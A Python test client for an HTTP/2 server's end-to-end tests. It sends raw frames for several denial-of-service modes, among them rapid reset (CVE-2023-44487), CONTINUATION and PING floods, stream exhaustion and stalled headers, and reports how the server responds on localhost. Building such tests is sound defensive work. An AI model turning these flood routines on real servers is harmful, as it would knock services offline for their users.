#!/usr/bin/python3
"""A hostile (or merely patient) HTTP/2 client for the e2e tests: raw frames, written
the way an attacker would (hyperframe/hpack from Debian's python3-h2 build and parse
them), and everything the server sends back reported.

  h2_attack.py PORT HOST MODE [N]

Modes:
  rapid-reset N    open N streams, each reset right after its HEADERS (CVE-2023-44487)
  continuation N   one header block split over N CONTINUATION frames
  streams N        open N streams at once and leave them open (no END_STREAM)
  ping-flood N     N PINGs, never reading the PING ACKs they ask for
  stalled-header   a HEADERS frame without END_HEADERS, then silence
  no-settings      the preface without the SETTINGS frame that must follow it, then silence
  slow MS          one well-formed request for /?delay=MS (the test app answers that late),
                   then every frame the server sends until it closes (a drain's GOAWAYs)

Prints one line per event the server sent that matters: `goaway CODE last=ID`,
`rst ID CODE`, `headers ID STATUS`, `closed AFTER_S` (the server closed the socket),
and `open` if the connection was still open after the wait.
"""
import socket
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
         8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def request_block(enc, host, path="/"):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", host),
                       (":path", path)])


class Reader:
    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.started = time.monotonic()
        self.closed = False

    def frames(self, wait):
        """Yields frames until the socket closes or `wait` seconds pass without one."""
        self.sock.settimeout(wait)
        while True:
            while len(self.buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                f.parse_body(memoryview(self.buf[9:9 + length]))
                self.buf = self.buf[9 + length:]
                yield f
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return
            except ConnectionResetError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buf += data


def report(reader, wait):
    dec = hpack.Decoder()
    for f in reader.frames(wait):
        if isinstance(f, GoAwayFrame):
            print(f"goaway {CODES.get(f.error_code, f.error_code)} last={f.last_stream_id}",
                  flush=True)
        elif isinstance(f, RstStreamFrame):
            print(f"rst {f.stream_id} {CODES.get(f.error_code, f.error_code)}", flush=True)
        elif isinstance(f, HeadersFrame):
            fields = dict(dec.decode(f.data))
            print(f"headers {f.stream_id} {fields.get(':status', '?')}", flush=True)
    if reader.closed:
        print(f"closed {time.monotonic() - reader.started:.1f}", flush=True)
    else:
        print("open", flush=True)


def main():
    port, host, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    n = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    reader = Reader(sock)
    enc = hpack.Encoder()
    if mode == "no-settings":
        sock.sendall(PREFACE)
        report(reader, 120)
        return
    out = PREFACE + SettingsFrame(0).serialize()
    if mode == "rapid-reset":
        for i in range(n):
            sid = 1 + 2 * i
            out += HeadersFrame(sid, request_block(enc, host, "/?delay=1000"),
                                flags=["END_HEADERS", "END_STREAM"]).serialize()
            out += RstStreamFrame(sid, error_code=8).serialize()
        try:
            sock.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server hung up mid-flood, as it should
        report(reader, 10)
    elif mode == "continuation":
        block = request_block(enc, host)
        out += HeadersFrame(1, block[:1]).serialize()
        rest = block[1:]
        for i in range(n):
            piece = rest if i == n - 1 else b""
            flags = ["END_HEADERS"] if i == n - 1 else []
            out += ContinuationFrame(1, piece, flags=flags).serialize()
        try:
            sock.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        report(reader, 10)
    elif mode == "streams":
        for i in range(n):
            out += HeadersFrame(1 + 2 * i, request_block(enc, host, "/?delay=3000"),
                                flags=["END_HEADERS"]).serialize()
        sock.sendall(out)
        report(reader, 5)
    elif mode == "ping-flood":
        ping = PingFrame(0, opaque_data=b"12345678").serialize()
        sock.settimeout(30)
        try:
            sock.sendall(out + ping * n)
        except (BrokenPipeError, ConnectionResetError, socket.timeout):
            pass  # the server gave up on us mid-flood, as it should
        report(reader, 10)
    elif mode == "slow":
        out += HeadersFrame(1, request_block(enc, host, f"/?delay={n}"),
                            flags=["END_HEADERS", "END_STREAM"]).serialize()
        sock.sendall(out)
        report(reader, 60)
    elif mode == "stalled-header":
        out += HeadersFrame(1, request_block(enc, host)[:1]).serialize()
        sock.sendall(out)
        report(reader, 120)
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
